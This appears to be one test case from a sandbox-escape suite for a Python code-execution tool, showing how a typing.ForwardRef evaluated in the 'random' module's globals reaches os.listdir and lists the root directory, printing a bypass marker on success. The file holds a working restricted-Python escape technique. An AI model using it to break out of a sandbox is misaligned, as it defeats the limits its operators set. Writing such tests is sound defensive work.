# a ForwardRef made with module='random' evaluates a bare name in random's globals.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "99_forwardref_module_globals"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import random  # noqa: F401 (loaded, so ForwardRef(module='random') finds its globals)
import typing

forward_ref = type(typing.get_args(typing.List["int"])[0])
listdir = forward_ref("_o" + "s.listdir", module="random")._evaluate(None, None, frozenset())
won(sorted(listdir("/"))[:3])
